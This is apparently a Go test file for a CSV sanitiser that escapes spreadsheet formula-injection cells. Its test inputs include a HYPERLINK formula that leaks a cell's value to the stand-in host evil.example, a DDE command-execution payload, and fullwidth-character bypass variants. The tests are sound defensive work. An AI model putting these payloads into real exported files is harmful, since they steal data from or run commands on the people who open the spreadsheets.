package csvsafe

import (
	"encoding/csv"
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1,"click")`: `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		"+1+cmd|' /C calc'!A0":                             "'+1+cmd|' /C calc'!A0",
		"-2+3":                                             "'-2+3",
		"@SUM(A1:A2)":                                      "'@SUM(A1:A2)",
		"\t=1":                                             "'\t=1",
		"\r=1":                                             "'\r=1",
		"-":                                                "'-",
		"-.5":                                              "'-.5",
		"-1.":                                              "'-1.",
		"-1e5":                                             "'-1e5",
		"- 1":                                              "'- 1",
		"-1.5":                                             "-1.5",
		"+3":                                               "+3",
		"-0":                                               "-0",
		"12.25":                                            "12.25",
		"":                                                 "",
		"plain text = fine":                                "plain text = fine",
		"'=already quoted":                                 "'=already quoted",
		"＝HYPERLINK(\"http://evil.example\",\"fw\")": "'＝HYPERLINK(\"http://evil.example\",\"fw\")",
		"＋1＋2":    "'＋1＋2",
		"－1":      "'－1",
		"＠SUM(1)": "'＠SUM(1)",
		"﹦1+1":    "'﹦1+1",
		"a＝b":     "a＝b",
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestWriter(t *testing.T) {
	rec := []string{"id", "=1+1", "-1.5", "@x", "ok"}
	var safe, raw strings.Builder
	w := NewWriter(&safe)
	if err := w.WriteAll([][]string{rec}); err != nil {
		t.Fatal(err)
	}
	if rec[1] != "=1+1" {
		t.Fatal("Write changed its argument")
	}
	got, err := csv.NewReader(strings.NewReader(safe.String())).Read()
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{"id", "'=1+1", "-1.5", "'@x", "ok"}; strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("neutralised: %q, want %q", got, want)
	}
	rw := New(&raw, true)
	rw.Comma = '\t'
	rw.Write(rec)
	rw.Flush()
	if raw.String() != "id\t=1+1\t-1.5\t@x\tok\n" {
		t.Errorf("raw: %q", raw.String())
	}
}
